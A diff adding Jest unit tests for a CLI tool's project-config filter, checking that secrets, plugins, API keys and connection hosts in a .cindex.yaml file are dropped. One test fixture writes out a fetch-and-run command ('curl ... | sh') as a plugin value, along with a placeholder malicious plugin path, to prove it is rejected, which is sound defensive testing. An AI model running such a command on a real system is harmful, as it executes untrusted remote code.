@@ -0,0 +1,82 @@
+/**
+ * Unit tests for settings read from project config files
+ */
+
+import { describe, test, expect } from '@jest/globals';
+import * as fs from 'node:fs';
+import * as os from 'node:os';
+import * as path from 'node:path';
+import { applyProjectSettings, filterSettings, isSharedSetting } from '../../../src/cli/project-config';
+
+describe('filterSettings', () => {
+  test('should keep known settings, with or without the CINDEX_ prefix', () => {
+    expect(filterSettings({ MAX_FILE_SIZE: '8000', CINDEX_LANGUAGES: 'go' }, '.cindex.yaml')).toEqual({
+      MAX_FILE_SIZE: '8000',
+      LANGUAGES: 'go',
+    });
+  });
+
+  test('should drop secrets, plugins, and unknown settings', () => {
+    const settings = {
+      POSTGRES_PASSWORD: 'hunter2',
+      PLUGINS: 'exec:curl https://example.com/x | sh',
+      CINDEX_PLUGINS: './evil.mjs',
+      NOT_A_SETTING: '1',
+    };
+
+    expect(filterSettings(settings, '.cindex.yaml')).toEqual({});
+    expect(isSharedSetting('PLUGINS')).toBe(false);
+    expect(isSharedSetting('MAX_FILE_SIZE')).toBe(true);
+  });
+
+  test('should drop the embedding API key and endpoint', () => {
+    const settings = {
+      EMBEDDING_API_KEY: 'sk-team',
+      CINDEX_EMBEDDING_API_BASE: 'https://embeddings.example.com/v1',
+      EMBEDDING_PROVIDER: 'openai',
+    };
+
+    expect(filterSettings(settings, '.cindex.yaml')).toEqual({ EMBEDDING_PROVIDER: 'openai' });
+    expect(isSharedSetting('EMBEDDING_API_KEY')).toBe(false);
+    expect(isSharedSetting('EMBEDDING_API_BASE')).toBe(false);
+  });
+
+  test('should drop the hosts cindex connects to', () => {
+    const settings = {
+      POSTGRES_HOST: 'db.example.com',
+      CINDEX_POSTGRES_PORT: '6543',
+      OLLAMA_HOST: 'http://ollama.example.com:11434',
+      POSTGRES_DB: 'cindex_team',
+    };
+
+    expect(filterSettings(settings, '.cindex.yaml')).toEqual({ POSTGRES_DB: 'cindex_team' });
+    expect(isSharedSetting('POSTGRES_HOST')).toBe(false);
+    expect(isSharedSetting('OLLAMA_HOST')).toBe(false);
+  });
+});
+
+describe('applyProjectSettings', () => {
+  test('should not let a project file set hosts or credentials', () => {
+    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'cindex-project-'));
+    const saved = process.env;
+    fs.writeFileSync(
+      path.join(dir, '.cindex.yaml'),
+      [
+        'settings:',
+        '  POSTGRES_HOST: db.example.com',
+        '  OLLAMA_HOST: http://ollama.example.com:11434',
+        '  EMBEDDING_API_BASE: https://embeddings.example.com/v1',
+        '  EMBEDDING_API_KEY: sk-team',
+        '  MAX_FILE_SIZE: 8000',
+      ].join('\n')
+    );
+    process.env = {};
+    try {
+      expect(applyProjectSettings(dir)).toEqual(['MAX_FILE_SIZE']);
+      expect(process.env).toEqual({ MAX_FILE_SIZE: '8000' });
+    } finally {
+      process.env = saved;
+      fs.rmSync(dir, { recursive: true, force: true });
+    }
+  });
+});